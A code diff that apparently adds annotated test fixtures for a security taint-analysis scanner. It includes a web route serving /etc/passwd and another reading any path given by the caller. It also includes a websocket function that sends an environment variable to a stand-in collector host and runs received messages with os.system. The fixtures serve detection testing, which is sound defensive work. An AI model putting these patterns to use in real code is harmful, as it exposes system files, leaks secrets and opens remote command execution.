@@ -10,6 +10,7 @@ import xmlrpc.client
 import aiohttp
 import aiohttp.web
 import django.http
+import fastapi
 import flask
 import httplib2
 import httpx
@@ -410,3 +411,46 @@ def constant_answers(name):
     answers = [flask.Response("pong"), aiohttp.web.Response(text="pong")]  #~ ok
     answers.append(django.http.HttpResponse("pong"))  #~ ok
     return answers
+
+
+app = flask.Flask(__name__)
+api = fastapi.FastAPI()
+
+
+@app.route("/file")  #~ sink(egress.http) froute, finding(traced) froute, capability(NETWORK)
+def routed_file():
+    return open("/etc/passwd").read()  #~ source(FILE) froute
+
+
+@api.get("/file")  #~ sink(egress.http) froute2, finding(traced) froute2
+async def routed_path(path: str):
+    with open(path) as f:  #~ source(FILE) froute2
+        return {"text": f.read()}
+
+
+@app.route("/pong")  #~ ok
+def routed_constant():
+    return "pong"
+
+
+def not_routed():
+    return open("/etc/passwd").read()  #~ ok
+
+
+async def aio_socket():
+    async with aiohttp.ClientSession() as session:
+        async with session.ws_connect("wss://aio.collector.example/") as ws:  #~ source(NETWORK) faiows, endpoint("wss://aio.collector.example/")
+            await ws.send_str(os.getenv("T"))  #~ source(ENVIRONMENT) faiows2, sink(egress.message) faiows2, finding(traced) faiows2
+            async for message in ws:
+                os.system(message.data)  #~ sink(exec.command) faiows, finding(traced) faiows
+            os.system(await ws.receive_str())  #~ source(NETWORK) faiows3, sink(exec.command) faiows3, finding(traced) faiows3
+
+
+async def aio_socket_constant():
+    async with aiohttp.ClientSession() as session:
+        async with session.ws_connect("wss://aio.collector.example/") as ws:  #~ ok
+            await ws.send_str("ping")  #~ ok
+            len(await ws.receive_str())  #~ ok
+
+
+app.route("/pong").__call__(routed_constant)  #~ ok
